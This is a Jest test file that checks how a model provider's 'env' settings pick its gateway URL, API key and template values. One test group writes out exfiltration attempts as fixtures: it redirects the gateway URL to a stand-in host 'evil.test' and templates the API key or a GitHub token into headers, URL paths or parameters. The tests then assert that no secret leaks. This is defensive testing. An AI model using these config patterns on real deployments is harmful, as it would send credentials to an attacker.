// `env` of a provider: where its calls go, with which key, and what its config's templates see.
import { mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, expect, test } from '@jest/globals';
import type { GatewayDefaults } from '../../src/config/endpoint-environment.js';
import { loadConfig } from '../../src/config/load.js';
import { ConfigError } from '../../src/config/problem.js';
import { findDestinations } from '../../src/destinations.js';
import { createWorkspace } from '../../src/trust/workspace.js';

const OURS = 'http://gateway.test:5000';
const KEY = 'sk-gateway-0123456789';
let root: string;
beforeEach(() => {
  root = realpathSync(mkdtempSync(path.join(tmpdir(), 'provider-env-')));
});
afterEach(() => {
  rmSync(root, { recursive: true, force: true });
});

async function load(provider: string, more = '') {
  const file = path.join(root, 'promptfooconfig.yaml');
  writeFileSync(file, `providers:\n  - ${provider}\n  - mlflow-gateway:b\nprompts: [hi]\ntests: [{}]\n${more}`);
  const gateway: GatewayDefaults = {
    trust: { trusted: true },
    env: { MLFLOW_GATEWAY_URL: OURS, MLFLOW_GATEWAY_API_KEY: KEY, WHO: 'process', GITHUB_TOKEN: 'ghs_0123456789' },
    url: OURS,
    apiKey: KEY,
  };
  const settings = { strict: false, endpointMap: [] };
  const config = await loadConfig({
    files: [file],
    settings,
    workspace: createWorkspace({ root, cwd: root }),
    gateway,
  });
  const [first, second] = config.endpoints;
  const destinations = findDestinations(config, gateway);
  if (!first || !second) throw new Error('two endpoints were written');
  return {
    first: { ...destinations.of(first), params: first.config.params },
    second: { ...destinations.of(second), params: second.config.params },
    secrets: destinations.secrets,
  };
}

const provider = (env: string, config = ''): string =>
  `{ id: mlflow-gateway:a, env: { ${env} }${config ? `, config: { ${config} }` : ''} }`;

test('a variable that neither the run nor the config sets is the provider’s own', async () => {
  const config = "user: '{{env.A}}/{{env.B}}/{{env.WHO}}', seed: 1, headers: { x-a: '{{env.A}}' }";
  const { first } = await load(provider("A: own, B: 'own {{env.WHO}}', WHO: own", config));
  expect(first.params).toEqual({ user: 'own/own process/process', seed: 1 });
  expect(first.headers).toMatchObject({ 'x-a': 'own' });
  const { first: overridden } = await load(provider('A: own', "user: '{{env.A}}'"), 'env: { A: of the config }\n');
  expect(overridden.params).toEqual({ user: 'of the config' });
});

test('its URL and key go before those of the run, for it alone', async () => {
  const { first, second, secrets } = await load(
    provider("MLFLOW_GATEWAY_URL: 'http://other.test', MLFLOW_GATEWAY_API_KEY: sk-other-0123456789"),
  );
  expect(first).toMatchObject({
    baseUrl: 'http://other.test',
    headers: { authorization: 'Bearer sk-other-0123456789' },
  });
  expect(second).toMatchObject({ baseUrl: OURS, headers: { authorization: `Bearer ${KEY}` } });
  expect(secrets).toContain('sk-other-0123456789');
});

test.each<[string, string, string]>([
  ['apiKeyEnvar', 'MINE: sk-mine-0123456789', 'apiKeyEnvar: MINE'],
  ['apiKey', 'MINE: sk-mine-0123456789', "apiKey: '{{env.MINE}}'"],
  ['apiKey over env', 'MLFLOW_GATEWAY_API_KEY: sk-other-0123456789', 'apiKey: sk-mine-0123456789'],
  [
    'gatewayUrl over env',
    "MLFLOW_GATEWAY_URL: 'http://other.test', K: x",
    `gatewayUrl: '${OURS}', apiKey: sk-mine-0123456789`,
  ],
])('%s', async (_name, env, config) => {
  const { first } = await load(provider(env, config));
  expect(first).toMatchObject({ baseUrl: OURS, headers: { authorization: 'Bearer sk-mine-0123456789' } });
});

test.each<[string, string, string]>([
  ['by a template', "MLFLOW_GATEWAY_URL: 'http://evil.test'", "headers: { x-k: '{{env.MLFLOW_GATEWAY_API_KEY}}' }"],
  [
    'by a variable of its own',
    "MLFLOW_GATEWAY_URL: 'http://evil.test', A: '{{env.MLFLOW_GATEWAY_API_KEY}}'",
    "headers: { x-k: '{{env.A}}' }, user: '{{env.A}}'",
  ],
  ['as its own key', "MLFLOW_GATEWAY_URL: 'http://evil.test', A: '{{env.MLFLOW_GATEWAY_API_KEY}}'", 'apiKeyEnvar: A'],
  ['in the URL', "MLFLOW_GATEWAY_URL: 'http://evil.test/{{env.MLFLOW_GATEWAY_API_KEY}}'", ''],
  ['to our gateway, where the model reads it', "A: '{{env.MLFLOW_GATEWAY_API_KEY}}'", "user: '{{env.A}}'"],
  [
    'the token of the job',
    "GITHUB_TOKEN: x, A: '{{env.GITHUB_TOKEN}}'",
    "headers: { x-k: '{{env.A}}{{env.GITHUB_TOKEN}}' }",
  ],
])('no secret goes out %s', async (_name, env, config) => {
  const shown = await load(provider(env, config)).then(
    ({ first }) =>
      JSON.stringify({
        ...first,
        headers: first.baseUrl === OURS ? { ...first.headers, authorization: '' } : first.headers,
      }),
    (error: unknown) => {
      if (error instanceof ConfigError) return error.message;
      throw error;
    },
  );
  expect(shown).not.toContain(KEY);
  expect(shown).not.toContain('ghs_');
});

test('has to be a map of texts', async () => {
  await expect(load('{ id: mlflow-gateway:a, env: [A] }')).rejects.toThrow(/2:\d+: env has to be a map, got a list/);
  await expect(load(provider('A: [1]'))).rejects.toThrow(/2:\d+: A has to be a text, got a list/);
});
